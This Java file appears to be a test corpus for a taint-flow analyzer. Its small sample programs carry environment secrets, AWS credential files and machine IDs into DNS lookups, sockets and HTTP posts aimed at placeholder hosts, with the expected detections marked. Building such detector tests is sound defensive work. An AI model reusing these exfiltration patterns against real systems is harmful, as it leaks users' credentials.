@@ -1,0 +1,591 @@
+package dev.clearbox.analyzers.source;
+
+import java.util.ArrayList;
+import java.util.LinkedHashMap;
+import java.util.List;
+import java.util.Map;
+
+/**
+ * The flow corpus: small programs, each covering one construct of the issue's section 3, with
+ * {@code // expect: EXFIL} on every sink line a source reaches. A case without a marker is a negative
+ * case: no path may be reported in it. {@code Send} (in every case's package) is the sink: a DNS
+ * look-up of its argument; {@code System.getenv} is the source unless a case says otherwise.
+ */
+final class FlowCorpus {
+    /** One case: its name, the construct it covers, and its files (relative path to text). */
+    record Case(String name, String construct, Map<String, String> files) {
+    }
+
+    private static final String SEND = """
+            package PKG;
+            import java.net.InetAddress;
+            final class Send {
+                static void dns(String name) throws Exception {
+                    InetAddress.getByName(name); // expect: EXFIL
+                }
+            }
+            """;
+
+    private final List<Case> cases = new ArrayList<>();
+
+    private FlowCorpus() {
+    }
+
+    static List<Case> all() {
+        FlowCorpus c = new FlowCorpus();
+        c.positives();
+        c.negatives();
+        return List.copyOf(c.cases);
+    }
+
+    private void add(String name, String construct, String... files) {
+        Map<String, String> map = new LinkedHashMap<>();
+        String pkg = "c" + cases.size();
+        for (String f : files) {
+            String text = f.replace("PKG", pkg);
+            String type = text.replaceAll("(?s).*?(?:class|interface|record)\\s+(\\w+).*", "$1");
+            map.put("src/" + pkg + "/" + type + ".java", text);
+        }
+        cases.add(new Case(name, construct, map));
+    }
+
+    /** A case whose sink is written inline (no {@code Send} helper). */
+    private void inline(String name, String construct, String... files) {
+        add(name, construct, files);
+    }
+
+    /** A case that uses the shared {@code Send.dns} sink (its marker counts as expected only if reached). */
+    private void viaSend(String name, String construct, boolean reaches, String... files) {
+        String[] all = new String[files.length + 1];
+        System.arraycopy(files, 0, all, 0, files.length);
+        all[files.length] = reaches ? SEND : SEND.replace(" // expect: EXFIL", "");
+        add(name, construct, all);
+    }
+
+    private void positives() {
+        inline("local variable", "locals", """
+                package PKG;
+                class A {
+                    void f() throws Exception {
+                        String v = System.getenv("TOKEN");
+                        String w = v;
+                        java.net.InetAddress.getByName(w + ".x.example"); // expect: EXFIL, from=4, via=5
+                    }
+                }
+                """);
+        viaSend("parameter to a sink in another method", "parameters", true, """
+                package PKG;
+                class A {
+                    void f() throws Exception {
+                        Send.dns(System.getenv("TOKEN"));
+                    }
+                }
+                """);
+        inline("return value of a helper", "return values", """
+                package PKG;
+                class A {
+                    static String token() {
+                        return System.getenv("TOKEN");
+                    }
+                    void f() throws Exception {
+                        new java.net.URL("https://x.example/?t=" + token()).openStream(); // expect: EXFIL, from=4
+                    }
+                }
+                """);
+        inline("identity helper in between", "parameters and return values", """
+                package PKG;
+                class A {
+                    static String trim(String s) {
+                        return s.strip();
+                    }
+                    void f() throws Exception {
+                        String t = trim(System.getenv("TOKEN"));
+                        java.net.InetAddress.getByName(t); // expect: EXFIL, from=7, via=4
+                    }
+                }
+                """);
+        viaSend("instance field set in constructor", "instance fields", true, """
+                package PKG;
+                class A {
+                    private final String secret;
+                    A() {
+                        this.secret = System.getProperty("user.name");
+                    }
+                    void report() throws Exception {
+                        Send.dns(secret);
+                    }
+                }
+                """);
+        viaSend("static field initializer", "static fields, static initialisers", true, """
+                package PKG;
+                class A {
+                    static final String HOME = System.getenv("HOME");
+                    void report() throws Exception {
+                        Send.dns(HOME);
+                    }
+                }
+                """);
+        viaSend("static initializer block", "static initialisers", true, """
+                package PKG;
+                class A {
+                    static String user;
+                    static {
+                        user = System.getProperty("user.name");
+                    }
+                    static void report() throws Exception {
+                        Send.dns(A.user);
+                    }
+                }
+                """);
+        viaSend("array element", "arrays", true, """
+                package PKG;
+                class A {
+                    void f() throws Exception {
+                        String[] a = new String[2];
+                        a[0] = System.getenv("TOKEN");
+                        Send.dns(a[0]);
+                    }
+                }
+                """);
+        viaSend("System.arraycopy", "arrays (System.arraycopy)", true, """
+                package PKG;
+                class A {
+                    void f() throws Exception {
+                        char[] src = System.getenv("TOKEN").toCharArray();
+                        char[] dst = new char[src.length];
+                        System.arraycopy(src, 0, dst, 0, src.length);
+                        Send.dns(new String(dst));
+                    }
+                }
+                """);
+        viaSend("list add and get", "collections", true, """
+                package PKG;
+                import java.util.ArrayList;
+                import java.util.List;
+                class A {
+                    void f() throws Exception {
+                        List<String> l = new ArrayList<>();
+                        l.add(System.getenv("TOKEN"));
+                        Send.dns(l.get(0));
+                    }
+                }
+                """);
+        viaSend("Collections.addAll and map", "collections (Collections, Map)", true, """
+                package PKG;
+                import java.util.*;
+                class A {
+                    void f() throws Exception {
+                        List<String> l = new ArrayList<>();
+                        Collections.addAll(l, "a", System.getenv("TOKEN"));
+                        Map<String, String> m = new HashMap<>();
+                        m.put("k", String.join(",", l));
+                        Send.dns(m.get("k"));
+                    }
+                }
+                """);
+        viaSend("stream map and collect", "streams", true, """
+                package PKG;
+                import java.util.List;
+                import java.util.stream.Collectors;
+                class A {
+                    void f() throws Exception {
+                        List<String> names = List.of(System.getenv("A"), System.getenv("B"));
+                        String joined = names.stream().map(s -> s.toUpperCase()).collect(Collectors.joining("."));
+                        Send.dns(joined);
+                    }
+                }
+                """);
+        inline("forEach lambda with the sink inside", "lambdas, streams", """
+                package PKG;
+                import java.util.List;
+                class A {
+                    void f() {
+                        List<String> keys = List.of(System.getenv("KEY"));
+                        keys.forEach(k -> {
+                            try {
+                                java.net.InetAddress.getByName(k); // expect: EXFIL, from=5
+                            } catch (Exception e) {
+                                throw new RuntimeException(e);
+                            }
+                        });
+                    }
+                }
+                """);
+        viaSend("StringBuilder", "string building", true, """
+                package PKG;
+                class A {
+                    void f() throws Exception {
+                        StringBuilder b = new StringBuilder("id-");
+                        b.append(System.getProperty("user.name")).append(".example");
+                        Send.dns(b.toString());
+                    }
+                }
+                """);
+        viaSend("String.format", "string formatting", true, """
+                package PKG;
+                class A {
+                    void f() throws Exception {
+                        String host = String.format("%s.%s", System.getenv("USER"), "x.example");
+                        Send.dns(host);
+                    }
+                }
+                """);
+        viaSend("supplier lambda capturing a local", "lambdas", true, """
+                package PKG;
+                import java.util.function.Supplier;
+                class A {
+                    void f() throws Exception {
+                        String secret = System.getenv("TOKEN");
+                        Supplier<String> s = () -> secret;
+                        Send.dns(s.get());
+                    }
+                }
+                """);
+        viaSend("function lambda applied", "lambdas", true, """
+                package PKG;
+                import java.util.function.Function;
+                class A {
+                    void f() throws Exception {
+                        Function<String, String> label = x -> "p-" + x;
+                        Send.dns(label.apply(System.getenv("TOKEN")));
+                    }
+                }
+                """);
+        viaSend("anonymous class capturing a local", "anonymous classes", true, """
+                package PKG;
+                class A {
+                    void f() {
+                        String secret = System.getenv("TOKEN");
+                        Runnable r = new Runnable() {
+                            @Override
+                            public void run() {
+                                try {
+                                    Send.dns(secret);
+                                } catch (Exception e) {
+                                    throw new IllegalStateException(e);
+                                }
+                            }
+                        };
+                        new Thread(r).start();
+                    }
+                }
+                """);
+        viaSend("inner class reading an outer field", "inner classes", true, """
+                package PKG;
+                class A {
+                    private String token = System.getenv("TOKEN");
+                    class Uploader {
+                        void go() throws Exception {
+                            Send.dns(token);
+                        }
+                    }
+                }
+                """);
+        add("interface dispatch", "interface dispatch", """
+                package PKG;
+                interface Channel {
+                    void send(String data) throws Exception;
+                }
+                """, """
+                package PKG;
+                class DnsChannel implements Channel {
+                    @Override
+                    public void send(String data) throws Exception {
+                        java.net.InetAddress.getByName(data + ".c.example"); // expect: EXFIL, from=A.java:4
+                    }
+                }
+                """, """
+                package PKG;
+                class A {
+                    void f(Channel c) throws Exception {
+                        c.send(System.getenv("TOKEN"));
+                    }
+                }
+                """);
+        add("inheritance: template method", "inheritance", """
+                package PKG;
+                abstract class Base {
+                    void publish() throws Exception {
+                        transmit(System.getProperty("user.home"));
+                    }
+                    abstract void transmit(String data) throws Exception;
+                }
+                """, """
+                package PKG;
+                class Impl extends Base {
+                    @Override
+                    void transmit(String data) throws Exception {
+                        new java.net.Socket(data, 443); // expect: EXFIL, from=Base.java:4
+                    }
+                }
+                """);
+        viaSend("exception message", "exceptions", true, """
+                package PKG;
+                class A {
+                    void check() {
+                        throw new IllegalStateException("bad key " + System.getenv("KEY"));
+                    }
+                    void f() throws Exception {
+                        try {
+                            check();
+                        } catch (IllegalStateException e) {
+                            Send.dns(e.getMessage());
+                        }
+                    }
+                }
+                """);
+        add("across packages", "across files and packages", """
+                package PKG;
+                public class Reader {
+                    public static String read() throws Exception {
+                        return new String(java.nio.file.Files.readAllBytes(java.nio.file.Path.of("/etc/machine-id")));
+                    }
+                }
+                """, """
+                package PKG.net;
+                public class Uplink {
+                    public void go() throws Exception {
+                        java.net.InetAddress.getByName(PKG.Reader.read()); // expect: EXFIL, from=Reader.java:4
+                    }
+                }
+                """.replace("PKG.net;", "PKG;"));
+        viaSend("Base64 and cipher do not clean", "transformers", true, """
+                package PKG;
+                import java.util.Base64;
+                import javax.crypto.Cipher;
+                class A {
+                    void f(Cipher cipher) throws Exception {
+                        byte[] sealed = cipher.doFinal(System.getenv("KEY").getBytes());
+                        Send.dns(Base64.getEncoder().encodeToString(sealed));
+                    }
+                }
+                """);
+        inline("written to a socket stream", "sink connections", """
+                package PKG;
+                import java.io.OutputStream;
+                import java.net.Socket;
+                class A {
+                    void f() throws Exception {
+                        Socket socket = new Socket("collector.example", 443);
+                        OutputStream out = socket.getOutputStream(); // expect: EXFIL, from=9, via=10
+                        byte[] data = System.getenv("TOKEN").getBytes();
+                        out.write(data);
+                    }
+                }
+                """.replace("from=9, via=10", "from=8, via=9"));
+        inline("wrapped writer on a connection", "sink connections, string building", """
+                package PKG;
+                import java.io.PrintWriter;
+                import java.net.HttpURLConnection;
+                import java.net.URL;
+                class A {
+                    void f() throws Exception {
+                        HttpURLConnection c = (HttpURLConnection) new URL("https://x.example/u").openConnection();
+                        PrintWriter w = new PrintWriter(c.getOutputStream()); // expect: EXFIL, from=9
+                        w.println(System.getProperty("user.name"));
+                    }
+                }
+                """);
+        inline("HttpClient request body", "library builders", """
+                package PKG;
+                import java.net.URI;
+                import java.net.http.*;
+                class A {
+                    void f(HttpClient client) throws Exception {
+                        String body = System.getenv("AWS_SECRET_ACCESS_KEY");
+                        HttpRequest r = HttpRequest.newBuilder(URI.create("https://x.example"))
+                                .POST(HttpRequest.BodyPublishers.ofString(body)).build();
+                        client.send(r, HttpResponse.BodyHandlers.discarding()); // expect: EXFIL, from=6
+                    }
+                }
+                """);
+        viaSend("record component", "records (fields)", true, """
+                package PKG;
+                record Creds(String user, String token) {
+                }
+                """, """
+                package PKG;
+                class A {
+                    void f() throws Exception {
+                        Creds c = new Creds("me", System.getenv("TOKEN"));
+                        Send.dns(c.token());
+                    }
+                }
+                """);
+        viaSend("method reference to a project method", "method references", true, """
+                package PKG;
+                import java.util.List;
+                class A {
+                    void upload(String s) {
+                        try {
+                            Send.dns(s);
+                        } catch (Exception e) {
+                            throw new RuntimeException(e);
+                        }
+                    }
+                    void f() {
+                        List.of(System.getenv("TOKEN")).forEach(this::upload);
+                    }
+                }
+                """);
+        viaSend("loop-carried accumulation", "loops", true, """
+                package PKG;
+                class A {
+                    void f(String[] keys) throws Exception {
+                        String acc = "";
+                        for (String k : keys) {
+                            acc = acc + System.getenv(k);
+                        }
+                        Send.dns(acc);
+                    }
+                }
+                """);
+        viaSend("ternary and switch expression", "conditionals", true, """
+                package PKG;
+                class A {
+                    void f(int mode) throws Exception {
+                        String v = switch (mode) {
+                            case 0 -> "none";
+                            default -> System.getenv("TOKEN");
+                        };
+                        Send.dns(mode > 2 ? v : "x");
+                    }
+                }
+                """);
+        viaSend("file contents through a stream read", "arrays (read into a buffer)", true, """
+                package PKG;
+                import java.io.FileInputStream;
+                class A {
+                    void f() throws Exception {
+                        byte[] buf = new byte[64];
+                        try (FileInputStream in = new FileInputStream("/home/u/.aws/credentials")) {
+                            in.read(buf);
+                        }
+                        Send.dns(new String(buf));
+                    }
+                }
+                """);
+    }
+
+    private void negatives() {
+        viaSend("overwritten before the sink", "negative: overwritten", false, """
+                package PKG;
+                class A {
+                    void f() throws Exception {
+                        String s = System.getenv("TOKEN");
+                        s = "public.example";
+                        Send.dns(s);
+                    }
+                }
+                """);
+        viaSend("overwritten in both branches", "negative: overwritten", false, """
+                package PKG;
+                class A {
+                    void f(boolean b) throws Exception {
+                        String s = System.getenv("TOKEN");
+                        if (b) {
+                            s = "a.example";
+                        } else {
+                            s = "b.example";
+                        }
+                        Send.dns(s);
+                    }
+                }
+                """);
+        viaSend("dead code", "negative: dead code", false, """
+                package PKG;
+                class A {
+                    static final boolean DEBUG = false;
+                    void f() throws Exception {
+                        String s = System.getenv("TOKEN");
+                        if (false) {
+                            Send.dns(s);
+                        }
+                        if (DEBUG) {
+                            Send.dns(s);
+                        }
+                    }
+                }
+                """);
+        viaSend("unrelated data", "negative: unrelated data", false, """
+                package PKG;
+                class A {
+                    void f() throws Exception {
+                        String home = System.getProperty("user.home");
+                        System.out.println(home);
+                        Send.dns("updates.example");
+                    }
+                }
+                """);
+        viaSend("a different field of the same object", "negative: different field", false, """
+                package PKG;
+                class Holder {
+                    String secret;
+                    String host = "h.example";
+                }
+                """, """
+                package PKG;
+                class A {
+                    void f() throws Exception {
+                        Holder h = new Holder();
+                        h.secret = System.getenv("TOKEN");
+                        Send.dns(h.host);
+                    }
+                }
+                """);
+        viaSend("a different element of an array", "negative: different element", false, """
+                package PKG;
+                class A {
+                    void f() throws Exception {
+                        String[] parts = {System.getenv("TOKEN"), "x.example"};
+                        Send.dns(parts[1]);
+                    }
+                }
+                """);
+        viaSend("a different element of a fixed list", "negative: different element", false, """
+                package PKG;
+                import java.util.List;
+                class A {
+                    void f() throws Exception {
+                        List<String> l = List.of(System.getenv("TOKEN"), "x.example");
+                        Send.dns(l.get(1));
+                    }
+                }
+                """);
+        viaSend("helper called with clean data elsewhere", "negative: context (summaries)", false, """
+                package PKG;
+                class A {
+                    static String id(String s) {
+                        return s;
+                    }
+                    void keep() {
+                        String kept = id(System.getenv("TOKEN"));
+                        System.out.println(kept.length());
+                    }
+                    void f() throws Exception {
+                        Send.dns(id("updates.example"));
+                    }
+                }
+                """);
+        viaSend("only the length is sent", "negative: size, not data", false, """
+                package PKG;
+                class A {
+                    void f() throws Exception {
+                        String s = System.getenv("TOKEN");
+                        Send.dns("len" + s.length() + ".example");
+                    }
+                }
+                """);
+        viaSend("source and sink in unrelated methods", "negative: unrelated data", false, """
+                package PKG;
+                class A {
+                    String read() {
+                        return System.getenv("TOKEN");
+                    }
+                    void f(String host) throws Exception {
+                        Send.dns(host);
+                    }
+                }
+                """);
+    }
+}
